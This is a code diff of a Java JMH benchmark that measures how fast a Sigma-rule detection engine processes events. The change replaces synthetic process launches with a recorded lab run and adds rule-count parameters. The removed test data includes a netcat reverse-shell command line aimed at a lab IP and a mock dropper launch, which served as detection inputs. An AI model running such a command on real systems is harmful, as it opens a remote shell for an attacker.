@@ -1,7 +1,9 @@
 package io.chirp.bench;
 
+import com.fasterxml.jackson.databind.JsonNode;
 import io.chirp.detect.Detector;
-import io.chirp.detect.eval.CompiledRule;
+import io.chirp.detect.RuleOutcome;
+import io.chirp.detect.SigmaEvent;
 import io.chirp.detect.ocsf.OcsfPipeline;
 import io.chirp.events.OcsfEvent;
 import io.chirp.events.build.EventContext;
@@ -16,21 +18,28 @@ import org.openjdk.jmh.annotations.Fork;
 import org.openjdk.jmh.annotations.Measurement;
 import org.openjdk.jmh.annotations.Mode;
 import org.openjdk.jmh.annotations.OutputTimeUnit;
+import org.openjdk.jmh.annotations.Param;
 import org.openjdk.jmh.annotations.Scope;
 import org.openjdk.jmh.annotations.Setup;
 import org.openjdk.jmh.annotations.State;
 import org.openjdk.jmh.annotations.Threads;
 import org.openjdk.jmh.annotations.Warmup;
 
-import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.concurrent.TimeUnit;
 
 /**
- * Events per second on one core through the monitor's hot path: build the OCSF event for a process launch,
- * map it to Sigma fields, evaluate 100 rules (CHIRP's shipped rules plus SigmaHQ's Linux process_creation rules).
- * Baseline in the same run: building the OCSF event alone.
+ * Events per second on one core through detection, on the events of a recorded lab monitor run
+ * ({@link BenchData#labMonitorRun}), with {@link BenchRules 100 or 1,000 rules}:
+ * <ul>
+ * <li>{@code detect}: the compiled rule set ({@code Detector.outcomes}) on the run's events, already mapped to
+ *     Sigma fields;</li>
+ * <li>{@code detectOneByOne}: the rule-by-rule evaluator on the same events (the previous engine);</li>
+ * <li>{@code buildMapDetect}: the monitor's hot path for a process launch of the run: build the OCSF event, map it
+ *     to Sigma fields, run the compiled set (the previous report's figure measured this path);</li>
+ * <li>{@code buildOnly}: the baseline, building the same OCSF event alone.</li>
+ * </ul>
  */
 @State(Scope.Benchmark)
 @BenchmarkMode(Mode.Throughput)
@@ -40,44 +49,106 @@ import java.util.concurrent.TimeUnit;
 @Warmup(iterations = 3, time = 1)
 @Measurement(iterations = 5, time = 1)
 public class DetectionBenchmark {
+    @Param({"100", "1000"})
+    public int rules;
+
     Detector detector;
     EventContext ctx;
-    ProcessInfo[] processes;
+    SigmaEvent[] events;
+    ProcessInfo[] launches;
     int i;
-    int ruleCount;
 
     @Setup
     public void setup() {
-        List<CompiledRule> rules = new ArrayList<>(Detector.shipped().rules());
-        Path sigma = BenchData.sigmaLinux().resolve("process_creation");
-        for (CompiledRule r : Detector.load(sigma).rules()) {
-            if (rules.size() >= 100) break;
-            rules.add(r);
-        }
-        detector = Detector.of(rules);
-        ruleCount = detector.rules().size();
+        detector = Detector.of(BenchRules.rules(rules));
+        if (detector.rules().size() != rules) throw new IllegalStateException("built " + detector.rules().size() + " rules, not " + rules);
         ctx = EventContext.of(new VmIdentity("host", "vm", null, "QEMU"));
-        String[][] cmds = {{"/usr/bin/ls", "ls -la /srv"}, {"/usr/bin/curl", "curl -s https://example.org/x"},
-                {"/bin/busybox", "nc 10.0.2.100 8001 -e /bin/sh"}, {"/usr/bin/python3", "python3 -c print(1)"},
-                {"/tmp/dropper", "/tmp/dropper --install"}, {"/usr/sbin/cron", "/usr/sbin/cron -f"}};
-        processes = new ProcessInfo[cmds.length];
-        for (int k = 0; k < cmds.length; k++) {
-            processes[k] = ProcessInfo.of(1000 + k, cmds[k][0].substring(cmds[k][0].lastIndexOf('/') + 1))
-                    .withPath(cmds[k][0]).withCmdLine(cmds[k][1]).withUser(UserInfo.linux(0, "root"))
-                    .withParent(new ParentInfo(1, "sh", "/bin/sh"));
+        List<JsonNode> run = BenchData.labMonitorRun();
+        List<SigmaEvent> sigma = new ArrayList<>();
+        List<ProcessInfo> procs = new ArrayList<>();
+        for (JsonNode e : run) {
+            OcsfPipeline.standard().map(e).ifPresent(sigma::add);
+            if (e.path("class_uid").asInt() == OcsfPipeline.PROCESS_ACTIVITY && e.path("activity_id").asInt() == 1) {
+                procs.add(process(e.path("process")));
+            }
         }
+        events = sigma.toArray(SigmaEvent[]::new);
+        launches = procs.toArray(ProcessInfo[]::new);
+        if (events.length == 0 || launches.length == 0) throw new IllegalStateException("the recorded run has no events");
     }
 
-    /** Build the OCSF event, map it to Sigma, evaluate every rule. */
+    /** The compiled rule set on one event of the run. */
     @Benchmark
-    public int normalizeAndDetect() {
-        OcsfEvent e = ProcessActivity.launch(ctx, processes[i++ % processes.length]).build();
-        return OcsfPipeline.standard().map(e.json()).map(s -> detector.detect(s).size()).orElse(-1);
+    public List<RuleOutcome> detect() { return detector.outcomes(events[next(events.length)]); }
+
+    /** The rule-by-rule evaluator on one event of the run. */
+    @Benchmark
+    public List<RuleOutcome> detectOneByOne() { return detector.outcomesOneByOne(events[next(events.length)]); }
+
+    /** Build the OCSF event of a launch of the run, map it to Sigma, run the compiled set. */
+    @Benchmark
+    public int buildMapDetect() {
+        OcsfEvent e = ProcessActivity.launch(ctx, launches[next(launches.length)]).build();
+        return OcsfPipeline.standard().map(e.json()).map(s -> detector.outcomes(s).size()).orElse(-1);
     }
 
     /** Baseline: building the OCSF event only. */
     @Benchmark
-    public OcsfEvent normalizeOnly() {
-        return ProcessActivity.launch(ctx, processes[i++ % processes.length]).build();
+    public OcsfEvent buildOnly() { return ProcessActivity.launch(ctx, launches[next(launches.length)]).build(); }
+
+    /**
+     * {@return events per second of CPU time of this thread for each operation, by benchmark name}: the same
+     * operations measured by thread CPU time instead of wall time, so that other processes competing for the cores
+     * do not count (the machine these reports come from is shared). The operations are interleaved in rounds so
+     * that cache and frequency drift affect them alike; each gets {@code rounds} slices of about 0.2 CPU seconds.
+     */
+    static java.util.Map<String, Double> cpuRates(int rules, int rounds) {
+        DetectionBenchmark b = new DetectionBenchmark();
+        b.rules = rules;
+        b.setup();
+        java.util.Map<String, Runnable> ops = new java.util.LinkedHashMap<>();
+        ops.put("detect", b::detect);
+        ops.put("detectOneByOne", b::detectOneByOne);
+        ops.put("buildMapDetect", b::buildMapDetect);
+        ops.put("buildOnly", b::buildOnly);
+        java.lang.management.ThreadMXBean mx = java.lang.management.ManagementFactory.getThreadMXBean();
+        java.util.Map<String, long[]> acc = new java.util.LinkedHashMap<>();   // [operations, cpu nanos]
+        for (int round = -2; round < rounds; round++) {                        // two rounds of warm-up
+            for (java.util.Map.Entry<String, Runnable> op : ops.entrySet()) {
+                long ops0 = 0, t0 = mx.getCurrentThreadCpuTime(), t = t0;
+                while (t - t0 < 200_000_000L) {
+                    for (int k = 0; k < 64; k++) op.getValue().run();
+                    ops0 += 64;
+                    t = mx.getCurrentThreadCpuTime();
+                }
+                if (round < 0) continue;
+                long[] a = acc.computeIfAbsent(op.getKey(), x -> new long[2]);
+                a[0] += ops0;
+                a[1] += t - t0;
+            }
+        }
+        java.util.Map<String, Double> out = new java.util.LinkedHashMap<>();
+        acc.forEach((k, a) -> out.put(k, a[0] / (a[1] / 1e9)));
+        return out;
+    }
+
+    private int next(int n) {
+        int k = i++;
+        if (i >= n) i = 0;
+        return k % n;
+    }
+
+    private static ProcessInfo process(JsonNode p) {
+        ProcessInfo info = ProcessInfo.of(p.path("pid").asInt(), p.path("name").asText(""));
+        if (p.hasNonNull("cmd_line")) info = info.withCmdLine(p.get("cmd_line").asText());
+        if (p.hasNonNull("file") && p.get("file").hasNonNull("path")) info = info.withPath(p.get("file").get("path").asText());
+        JsonNode u = p.path("user");
+        if (u.hasNonNull("uid")) info = info.withUser(UserInfo.linux(u.path("uid").asInt(), u.path("name").asText(null)));
+        JsonNode parent = p.path("parent_process");
+        if (parent.hasNonNull("pid")) {
+            info = info.withParent(new ParentInfo(parent.path("pid").asInt(), parent.path("name").asText(null),
+                    parent.path("cmd_line").asText(null)));
+        }
+        return info;
     }
 }
